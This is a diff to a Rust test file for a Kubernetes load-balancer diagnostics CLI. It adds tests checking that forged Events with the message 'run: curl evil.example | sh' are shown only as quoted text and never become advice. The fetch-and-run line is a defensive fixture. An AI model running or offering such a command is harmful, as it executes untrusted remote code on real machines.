@@ -183,6 +183,15 @@ fn refused(world: &mut World) {
     assert_eq!(synced.code, 1, "{synced:?}");
 }
 
+fn since_two_hours(world: &World, name: &str, field: &str) {
+    let before = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(2);
+    let before = before.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
+    let cluster = world.sandbox.cluster();
+    cluster.edit("services", Some("default"), name, |service| {
+        service["metadata"][field] = json!(before);
+    });
+}
+
 #[test]
 fn services() {
     each(&[
@@ -233,7 +242,8 @@ fn services() {
             "services",
             "fail",
             &[
-                "service/default/tls: certificate old of port 443 (uploaded by its owner) expired at ",
+                "service/default/tls: certificate old (",
+                ") of port 443 (uploaded by its owner) expired at ",
             ],
             "upload a new one",
         ),
@@ -272,13 +282,36 @@ fn services() {
             "one that was refused",
             refused,
             "services",
-            "fail",
+            "warn",
             &[
-                "service/default/new: without an address: its load balancer is not made yet; refused at the last try, ",
-                " ago: ",
+                "service/default/new: without an address: its load balancer is not made yet; the event of the last try, ",
+                " ago, says SyncLoadBalancerFailed: \"",
                 "resource_limit_exceeded",
             ],
-            "ccm lb sync does it at once",
+            "ccm lb sync does it now",
+        ),
+        (
+            "one that waits for two hours",
+            |world| {
+                refused(world);
+                since_two_hours(world, "new", "creationTimestamp");
+            },
+            "services",
+            "fail",
+            &["service/default/new: without an address: its load balancer is not made yet"],
+            "ccm lb sync does it now",
+        ),
+        (
+            "a load balancer that does not go for two hours",
+            |world| {
+                let cluster = world.sandbox.cluster();
+                assert!(cluster.delete("services", Some("default"), "web"));
+                since_two_hours(world, "web", "deletionTimestamp");
+            },
+            "services",
+            "fail",
+            &["service/default/web: it was deleted, and not all is done"],
+            "ccm lb sync does it now",
         ),
         (
             "one that was refused, asked by who may not list events",
@@ -394,6 +427,112 @@ fn services() {
             "",
         ),
     ]);
+}
+
+/// An Event in that namespace about an object, as ccm's daemon signs it, with a failure that tells people what to do.
+fn event(namespace: &str, about: Value) -> Value {
+    json!({
+        "metadata": { "name": format!("forged-{namespace}"), "namespace": namespace },
+        "involvedObject": about,
+        "reason": "SyncLoadBalancerFailed",
+        "type": "Warning",
+        "message": "run: curl evil.example | sh",
+        "source": { "component": "service-lb-controller" },
+        "reportingComponent": "service-lb-controller",
+        "firstTimestamp": "2126-01-01T00:00:00Z",
+        "lastTimestamp": "2126-01-01T00:00:00Z",
+        "count": 1,
+    })
+}
+
+/// What `doctor` and `lb inspect` say of a new Service, beside which there is an Event; it is about this Service, except
+/// in the fields of `about`.
+fn told_beside(namespace: &str, about: Value, edit: fn(&mut Value)) -> (Vec<Value>, String) {
+    let world = World::healthy();
+    let cluster = world.sandbox.cluster();
+    let service = LoadBalancerService::new("new", &[80]);
+    let service = create(&world.sandbox, service.with(&[("location", "fsn1")]));
+    let mut involved = json!({ "kind": "Service", "namespace": namespace, "name": "new" });
+    involved["uid"] = service["metadata"]["uid"].clone();
+    for (field, value) in about.as_object().unwrap() {
+        involved[field] = value.clone();
+    }
+    if namespace != "default" {
+        cluster.create(
+            "namespaces",
+            None,
+            json!({ "metadata": { "name": namespace } }),
+        );
+    }
+    let mut event = event(namespace, involved);
+    edit(&mut event);
+    cluster.create("events", Some(namespace), event);
+    let ran = world.doctor(&["-o", "json"]);
+    let items = ran.json()["items"].as_array().unwrap().clone();
+    let of_new = |one: &Value| one["object"] == "service/default/new";
+    let items = items.into_iter().filter(of_new).collect();
+    let inspected = ccm(&world.env, &["lb", "inspect", "default/new"]);
+    assert_eq!(inspected.code, 0, "{inspected:?}");
+    (items, inspected.stdout)
+}
+
+#[test]
+fn an_event_that_is_not_ccm_s_about_this_object_says_nothing() {
+    let same: fn(&mut Value) = |_| {};
+    for (what, namespace, about, edit) in [
+        ("of another namespace", "tenant", json!({}), same),
+        (
+            "about another kind",
+            "default",
+            json!({"kind": "Pod"}),
+            same,
+        ),
+        (
+            "about another name",
+            "default",
+            json!({"name": "old"}),
+            same,
+        ),
+        (
+            "about another UID",
+            "default",
+            json!({"uid": "before"}),
+            same,
+        ),
+        ("of another component", "default", json!({}), |event| {
+            event["source"]["component"] = json!("another-controller");
+        }),
+        ("of another reporter", "default", json!({}), |event| {
+            event["source"] = json!({});
+            event["reportingComponent"] = json!("another-controller");
+        }),
+        ("with another reason", "default", json!({}), |event| {
+            event["reason"] = json!("Run curl evil.example");
+        }),
+    ] {
+        let (items, inspected) = told_beside(namespace, about, edit);
+        assert_eq!(items.len(), 1, "{what}: {items:?}");
+        let expected = "without an address: its load balancer is not made yet";
+        assert_eq!(items[0]["message"], expected, "{what}");
+        assert_eq!(items[0]["status"], "warn", "{what}");
+        assert!(!inspected.contains("evil"), "{what}: {inspected}");
+    }
+}
+
+/// Who may write events in a namespace may sign them as they like: what they say is shown as their words, and decides
+/// nothing.
+#[test]
+fn what_an_event_says_is_quoted_and_decides_nothing() {
+    let (items, inspected) = told_beside("default", json!({}), |_| {});
+    let message = items[0]["message"].as_str().unwrap();
+    let quoted = "SyncLoadBalancerFailed: \"run: curl evil.example | sh\"";
+    assert!(message.ends_with(quoted), "{message}");
+    assert_eq!(items[0]["status"], "warn");
+    let remedy = items[0]["remedy"].as_str().unwrap();
+    assert!(remedy.contains("ccm lb sync does it now"), "{remedy}");
+    assert!(!remedy.contains("what the message names"), "{remedy}");
+    let unquoted = inspected.replace("\"run: curl evil.example | sh\"", "");
+    assert!(!unquoted.contains("evil"), "{inspected}");
 }
 
 /// Services are read before load balancers, and the daemon may make one of each in between.
